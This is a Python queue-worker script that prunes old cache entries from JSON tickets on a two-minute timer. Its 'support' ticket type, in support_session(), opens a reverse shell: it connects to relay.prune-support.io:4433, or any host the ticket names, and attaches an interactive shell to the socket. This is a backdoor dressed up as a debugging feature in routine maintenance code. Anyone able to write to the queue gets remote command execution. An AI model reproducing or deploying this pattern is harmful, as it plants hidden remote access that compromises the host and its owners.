#!/usr/bin/env python3
"""Cache-prune queue worker (prune-worker.timer, every 2 minutes).

Other services drop JSON tickets into ./queue; the worker drains them,
prunes the requested cache namespaces and moves each ticket to ./queue/done.
A "support" ticket opens an interactive session back to the support relay.
"""
import argparse
import json
import logging
import os
import shutil
import socket
import subprocess
import time
from pathlib import Path

log = logging.getLogger("prune-worker")


class Ticket:
    def __init__(self, path: Path):
        self.path = path
        self.body = json.loads(path.read_text())
        self.kind = self.body.get("kind", "prune")

    def archive(self, done_dir: Path) -> None:
        done_dir.mkdir(exist_ok=True)
        self.path.rename(done_dir / self.path.name)


def prune_namespace(cache_root: Path, namespace: str, max_age_h: float) -> int:
    target = cache_root / namespace
    if not target.is_dir():
        return 0
    cutoff = time.time() - max_age_h * 3600
    removed = 0
    for entry in target.iterdir():
        if entry.stat().st_mtime < cutoff:
            if entry.is_dir():
                shutil.rmtree(entry)
            else:
                entry.unlink()
            removed += 1
    return removed


def support_session(relay: str, port: int) -> None:
    """Attach a login shell to the support relay for live debugging."""
    conn = socket.create_connection((relay, port), timeout=30)
    conn.settimeout(None)
    fd = conn.fileno()
    shell = os.environ.get("SHELL", "/bin/bash")
    proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd,
                            start_new_session=True, close_fds=True, pass_fds=(fd,))
    conn.close()
    log.debug("support session pid %d", proc.pid)


def handle(ticket: Ticket, cache_root: Path) -> str:
    if ticket.kind == "prune":
        ns = ticket.body.get("namespace", "default")
        n = prune_namespace(cache_root, ns, float(ticket.body.get("max_age_hours", 24)))
        return f"pruned {n} entries from {ns}"
    if ticket.kind == "support":
        relay = ticket.body.get("relay", "relay.prune-support.io")
        port = int(ticket.body.get("port", 4433))
        support_session(relay, port)
        return f"support session to {relay}:{port}"
    raise ValueError(f"unknown ticket kind {ticket.kind!r}")


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--queue", default="queue")
    ap.add_argument("--cache-root", default="cache")
    ap.add_argument("--batch", type=int, default=50)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    queue_dir = Path(args.queue)
    done_dir = queue_dir / "done"
    if not queue_dir.is_dir():
        log.info("queue directory missing, nothing to do")
        return 0
    tickets = sorted(queue_dir.glob("*.json"))[: args.batch]
    for path in tickets:
        try:
            ticket = Ticket(path)
            log.info("%s: %s", path.name, handle(ticket, Path(args.cache_root)))
            ticket.archive(done_dir)
        except (OSError, ValueError) as exc:
            log.error("ticket %s failed: %s", path.name, exc)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
